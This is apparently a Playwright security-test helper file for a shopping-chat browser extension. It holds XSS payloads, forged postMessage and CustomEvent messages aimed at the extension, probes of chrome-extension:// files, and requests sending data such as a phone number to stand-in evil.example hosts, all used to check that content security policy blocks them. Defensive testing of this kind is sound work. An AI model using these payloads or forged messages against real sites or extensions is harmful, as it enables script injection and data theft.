import type { FrameLocator, Page } from 'playwright-core';

const MARKUP = '<img src=https://evil.example/x onerror=pwned=1>';

/** Texts that a buyer might choose; `shown` is what the panel then says, where it is known. */
export const HOSTILE: readonly { what: string; text: string; shown?: string }[] = [
  { what: 'markup', text: MARKUP, shown: MARKUP },
  { what: 'a script', text: '"><script>pwned=1</script>', shown: '"><script>pwned=1</script>' },
  { what: 'a link', text: 'javascript:pwned=1//', shown: 'javascript:pwned=1//' },
  { what: 'a text of 100 kB without blanks', text: 'W'.repeat(100_000) },
  { what: 'right-to-left and zero-width characters', text: '\u202e买\u200b家\u2066甲\u2069\u202c', shown: '买家甲' },
  { what: 'a template’s place', text: '{买家}{{constructor}}${1}', shown: '{买家}{{constructor}}${1}' },
  { what: 'stacked marks', text: `Z${'\u0335\u0489'.repeat(20)}`, shown: `Z${'\u0335\u0489'.repeat(20)}` },
  { what: 'a name every object has', text: '__proto__', shown: '__proto__' },
];

/** Shows another name in the header and in the active row, as the page does for a buyer of that name. */
export async function changeChatNames(frame: FrameLocator, name: string): Promise<void> {
  await frame.locator('.ww_header .name').evaluate((header, text) => {
    header.textContent = text;
    const row = document.querySelector('.conversation-item.active .name');
    if (row) row.textContent = text;
  }, name);
}

/** Puts a text into the title, the buyer and the memo of the first order on the list. */
export async function changeOrderRow(page: Page, text: string): Promise<void> {
  await page.evaluate((value) => {
    const [row] = document.querySelectorAll('table.next-table-row');
    const walker = document.createTreeWalker(row as Element, NodeFilter.SHOW_TEXT);
    const nodes: Node[] = [];
    while (walker.nextNode()) nodes.push(walker.currentNode);
    for (const node of nodes) {
      if (/示例|\*\*/.test(node.nodeValue ?? '') || (node as { hostile?: true }).hostile) {
        Object.assign(node, { hostile: true });
        node.nodeValue = value;
      }
    }
  }, text);
}

/** Runs before a page's own scripts and notes what reaches it: messages, shadow roots. */
export function watchPage(): void {
  const heard: string[] = [];
  Object.defineProperty(globalThis, 'heard', { value: heard, enumerable: false });
  if (location.protocol !== 'https:') return;
  addEventListener('message', (event) => {
    if (!(event.data as { ownTest?: true }).ownTest) heard.push(JSON.stringify(event.data));
  });
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function attach(init) {
    heard.push('a shadow root');
    return attachShadow.call(this, init);
  };
}

/** Everything a page's own script can try against the extension; returns what it got hold of. */
export async function pageTriesEverything(id: string): Promise<string[]> {
  const reached: string[] = [];
  const chromeHere = (globalThis as { chrome?: { runtime?: object; storage?: object } }).chrome;
  if (chromeHere?.runtime || chromeHere?.storage) reached.push('chrome.runtime');
  const commandId = '11111111-2222-4333-8444-555555555555';
  const binding = { tabId: 1, frameId: 0, fingerprint: document.querySelector('.ww_header .name')?.textContent ?? '' };
  const types = [
    'report',
    'insert',
    'reread',
    'render',
    'templates',
    'loadPalette',
    'openPanel',
    'templateUsed',
    'whoIsOpen',
    'pong',
    '__proto__',
  ];
  for (const type of types) {
    const message = {
      ownTest: true,
      id: 1,
      type,
      timestamp: Date.now(),
      data: { commandId, text: '坏话', binding, fingerprint: binding.fingerprint },
    };
    const channel = new MessageChannel();
    postMessage(message, '*', [channel.port1]);
    parent.postMessage(message, '*');
    for (const target of [document, globalThis, document.documentElement]) {
      const names = [
        type,
        `keban:${type}`,
        `${id}:${type}`,
        `${id}:taobao-chat:wxt:content-script-started`,
        `wxt:${type}`,
        '__kebanWatch',
        '@webext-core/messaging/window',
      ];
      for (const name of names) {
        target.dispatchEvent(
          new CustomEvent(name, { detail: { ...message, contentScriptName: 'taobao-chat', messageId: 'forged' } }),
        );
        target.dispatchEvent(new MessageEvent(name, { data: message, ports: [new MessageChannel().port2] }));
      }
    }
  }
  for (const name of ['__kebanWatch', '__kebanPalette', '__kebanWish']) {
    if (name in globalThis) reached.push(name);
    Object.assign(globalThis, {
      [name]: { abort: () => reached.push(`${name} was used`), key: () => 'taken', open: () => reached.push(`${name} was used`) },
    });
  }
  // Keys that no person pressed open nothing.
  const editor = document.querySelector('.edit');
  editor?.dispatchEvent(new InputEvent('input', { data: '/', inputType: 'insertText', bubbles: true, composed: true }));
  editor?.dispatchEvent(new KeyboardEvent('keydown', { code: 'Slash', key: '/', altKey: true, bubbles: true, composed: true }));
  await new Promise((resume) => setTimeout(resume, 300));
  if (document.querySelector('[popover]')) reached.push('the palette');
  for (const file of ['palette.js', 'icon-128.png', 'manifest.json', 'sidepanel.html', 'taobao-chat.js']) {
    const address = `chrome-extension://${id}/${file}`;
    await fetch(address).then(
      () => reached.push(`fetched ${file}`),
      () => undefined,
    );
    await new Promise<void>((resolve) => {
      const image = new Image();
      image.addEventListener('load', () => {
        reached.push(`showed ${file}`);
        resolve();
      });
      image.addEventListener('error', () => resolve());
      image.src = address;
    });
  }
  for (const name of ['__kebanWatch', '__kebanPalette', '__kebanWish']) Reflect.deleteProperty(globalThis, name);
  return reached;
}

/** What a hole in one of our pages could be used for; in a task of its own, because what a debugger evaluates is let through. */
export function tryToBreakOut(): Promise<Record<string, string>> {
  return new Promise((resolve) => {
    setTimeout(
      () =>
        void (async () => {
          const tried: Record<string, string> = {};
          const attempt = (name: string, act: () => unknown): void => {
            try {
              act();
              tried[name] = 'done';
            } catch (error) {
              tried[name] = (error as Error).name;
            }
          };
          const refused: string[] = [];
          document.addEventListener('securitypolicyviolation', (event) => refused.push(event.blockedURI));
          const place = document.createElement('div');
          document.body.append(place);
          attempt('markup', () =>
            Reflect.set(place, 'innerHTML', '<img src=https://markup.evil.example/ onerror="globalThis.pwned=1">'),
          );
          attempt('markup beside', () =>
            Reflect.apply(Reflect.get(place, 'insertAdjacentHTML'), place, ['beforeend', '<b>x</b>']),
          );
          attempt('document', () => Reflect.apply(Reflect.get(document, 'write'), document, ['<b>x</b>']));
          attempt('frame text', () => Reflect.set(document.createElement('iframe'), 'srcdoc', '<script>1</script>'));
          attempt('script text', () => Reflect.set(document.createElement('script'), 'textContent', 'globalThis.pwned=2'));
          attempt('script address', () =>
            Reflect.set(document.createElement('script'), 'src', 'https://script.evil.example/s.js'),
          );
          attempt('eval', () => (Reflect.get(globalThis, 'eval') as (code: string) => void)('globalThis.pwned=3'));
          attempt('function', () => new Function('globalThis.pwned=4')());
          attempt('timer', () => Reflect.apply(setTimeout, globalThis, ['globalThis.pwned=5', 0]));
          attempt('policy', () =>
            (
              globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
            ).trustedTypes.createPolicy('x', {}),
          );
          const picture = new Image();
          const frame = document.createElement('iframe');
          picture.src = 'https://picture.evil.example/p?phone=13900000001';
          frame.src = 'https://frame.evil.example/';
          const sheet = document.createElement('link');
          sheet.rel = 'stylesheet';
          sheet.href = 'https://sheet.evil.example/c.css';
          const ahead = document.createElement('link');
          ahead.rel = 'prefetch';
          ahead.href = 'https://prefetch.evil.example/';
          const link = document.createElement('a');
          link.href = 'javascript:globalThis.pwned=6';
          place.append(picture, frame, sheet, ahead, link);
          place.style.backgroundImage = 'url(https://background.evil.example/b.png)';
          link.click();
          navigator.sendBeacon('https://beacon.evil.example/', 'x');
          for (const [name, url] of [
            ['fetch', 'https://fetch.evil.example/'],
            ['shop', 'https://csp.aliexpress.com/'],
          ] as const) {
            tried[name] = await fetch(url).then(
              () => 'sent',
              () => 'blocked',
            );
          }
          tried['socket'] = await new Promise((done) => {
            try {
              const socket = new WebSocket('wss://socket.evil.example/');
              socket.addEventListener('open', () => done('sent'));
              socket.addEventListener('error', () => done('blocked'));
            } catch {
              done('blocked');
            }
          });
          await new Promise((resume) => setTimeout(resume, 300));
          for (const name of ['picture', 'frame', 'sheet', 'prefetch', 'beacon']) {
            tried[name] = refused.some((uri) => uri.includes(`${name}.evil`)) ? 'blocked' : 'not refused';
          }
          tried['ran'] = 'pwned' in globalThis ? 'yes' : 'blocked';
          place.remove();
          resolve(tried);
        })(),
      0,
    );
  });
}
